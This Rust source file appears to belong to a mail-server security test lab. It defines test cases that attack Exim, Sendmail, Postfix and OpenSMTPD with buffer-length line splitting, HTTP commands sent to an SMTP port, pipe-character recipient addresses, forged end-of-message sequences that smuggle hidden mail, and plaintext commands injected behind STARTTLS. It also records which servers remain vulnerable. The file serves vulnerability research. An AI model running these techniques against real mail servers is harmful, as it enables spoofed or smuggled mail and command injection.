//! Lines that are longer than what a server reads them with, words of other protocols, addresses
//! that a mask makes into others', and ends of messages that only some servers believe in.

use super::table::Seen;
use super::talk::Talk;
use super::trial::{Before, HONEST, Recipe, Trial};
use crate::is_full;
use crate::lab::{FALSE_ENDS, Outcome, Program};

/// The recipes of this file.
pub(crate) const RECIPES: &[Recipe] = &[
    Recipe {
        id: "1",
        name: "a long NOOP is two lines",
        programs: &Program::ALL,
        alive: &[Program::Exim],
        run: long_noop,
    },
    Recipe {
        id: "1",
        name: "a long line of AUTH is two",
        programs: &Program::ALL,
        alive: &[Program::Exim, Program::Sendmail],
        run: long_auth,
    },
    Recipe {
        id: "10",
        name: "POST, then mail",
        programs: &Program::ALL,
        alive: &[Program::Exim, Program::OpenSmtpd],
        run: post,
    },
    Recipe {
        id: "10",
        name: "GET behind the greeting, then mail",
        programs: &Program::ALL,
        alive: &[Program::Exim, Program::OpenSmtpd],
        run: get,
    },
    Recipe {
        id: "11",
        name: "<a|b@d> is stored for another",
        programs: &Program::ALL,
        alive: &[],
        run: pipe,
    },
    Recipe {
        id: "sm",
        name: "forged ends of a message",
        programs: &Program::ALL,
        alive: &[Program::Postfix],
        run: ends,
    },
    Recipe {
        id: "tls",
        name: "plaintext behind STARTTLS",
        programs: &Program::ALL,
        alive: &[],
        run: plaintext,
    },
];

/// Whether the forbidden line is run when so many octets of a line stand before it.
fn splits_at(trial: &Trial, opening: Option<&str>, length: usize) -> Outcome<Seen> {
    let mut talk = trial.greeted()?;
    let start = match opening {
        None => "NOOP ",
        Some(opening) => {
            talk.ask(opening);
            ""
        }
    };
    let filler = "a".repeat(length - start.len());
    talk.say(format!("{start}{filler}{}\r\n", trial.forbidden()));
    talk.hear(2);
    Ok(trial.judged(&talk))
}

/// The first length at which a line is split, or what came of the last one.
fn first_split(trial: &Trial, opening: Option<&str>, lengths: &[usize]) -> Outcome<Seen> {
    let mut seen = Seen::new(false, "");
    for &length in lengths {
        seen = splits_at(trial, opening, length)?;
        if seen.worked {
            return Ok(Seen::new(true, format!("at {length}")));
        }
    }
    Ok(seen)
}

fn long_noop(trial: &Trial) -> Outcome<Seen> {
    first_split(trial, None, buffers(trial, &[16_383, 16_384, 16_385]))
}

fn long_auth(trial: &Trial) -> Outcome<Seen> {
    let exact: &[usize] =
        if trial.program == Program::Exim { &[16_383, 16_384] } else { &[12_287, 12_288] };
    first_split(trial, Some("AUTH LOGIN"), buffers(trial, exact))
}

/// The lengths to try: those that are known to split, or any buffer one could think of.
fn buffers<'a>(trial: &Trial, exact: &'a [usize]) -> &'a [usize] {
    let is_known = matches!(trial.program, Program::Exim | Program::Sendmail);
    match (is_full(), is_known) {
        (true, _) => &BUFFERS,
        (false, true) => exact,
        (false, false) => exact.get(..1).unwrap_or_default(),
    }
}

fn post(trial: &Trial) -> Outcome<Seen> {
    let mut talk = trial.talk()?;
    talk.ask("POST / HTTP/1.1");
    talk.ask("Host: mail.domain2.com");
    talk.ask(trial.hello());
    Ok(mail(trial, talk, &trial.evil_address()))
}

fn get(trial: &Trial) -> Outcome<Seen> {
    let mut talk = trial.greeted()?;
    talk.ask("GET / HTTP/1.1");
    Ok(mail(trial, talk, &trial.evil_address()))
}

/// Whom it was stored for is seen when all is stored.
fn pipe(trial: &Trial) -> Outcome<Seen> {
    let address = trial.evil_address().replace('@', &format!("{HONEST}@"));
    Ok(Seen::new(false, mail(trial, trial.greeted()?, &address).told))
}

/// A message to this recipient, step by step; whether it was taken.
fn mail(trial: &Trial, mut talk: Talk, recipient: &str) -> Seen {
    let mail = trial.evil_mail(recipient);
    let (commands, text) = mail.split_once("DATA\r\n").unwrap_or_default();
    for line in commands.lines() {
        talk.ask(line);
    }
    let is_data = talk.ask("DATA").starts_with("354");
    let is_taken = is_data && talk.ask(text.trim_end()).starts_with("250");
    Seen::new(is_taken, talk.told())
}

fn ends(trial: &Trial) -> Outcome<Seen> {
    let mut taken = 0;
    for (number, end) in FALSE_ENDS.iter().enumerate() {
        let mut talk = trial.greeted()?;
        talk.ask("MAIL FROM:<sender@domain1.com>");
        talk.ask(&format!("RCPT TO:<{}>", trial.cover()));
        talk.ask("DATA");
        let evil = trial.evil_address().replace('@', &format!("{number}@"));
        let hidden = trial.evil_mail(&evil);
        talk.say([b"Subject: cover\r\n\r\ncover", *end, hidden.as_bytes()].concat());
        taken += usize::from(talk.hear(1) == 1 && talk.last().starts_with("250"));
    }
    Ok(Seen::new(false, format!("{taken} of {} taken", FALSE_ENDS.len())))
}

fn plaintext(trial: &Trial) -> Outcome<Seen> {
    let mut talk = trial.greeted()?;
    talk.say(format!("STARTTLS\r\n{}\r\n", trial.forbidden()));
    talk.hear(2);
    talk.say(format!("{}\r\n", trial.forbidden()));
    talk.hear(1);
    let is_refused = !talk.heard.iter().skip(2).any(|reply| reply.starts_with("220"));
    // A server that takes no TLS runs what follows as commands, and may.
    let is_bare = trial.before == Before::Nothing;
    Ok(Seen::new(trial.has_run(&talk) && !(is_bare && is_refused), talk.told()))
}

/// Sizes around the buffers of mail programs.
const BUFFERS: [usize; 19] = [
    510, 512, 998, 1000, 1023, 1024, 2047, 2048, 4095, 4096, 8191, 8192, 12_286, 12_287, 12_288,
    16_383, 16_384, 16_385, 32_768,
];
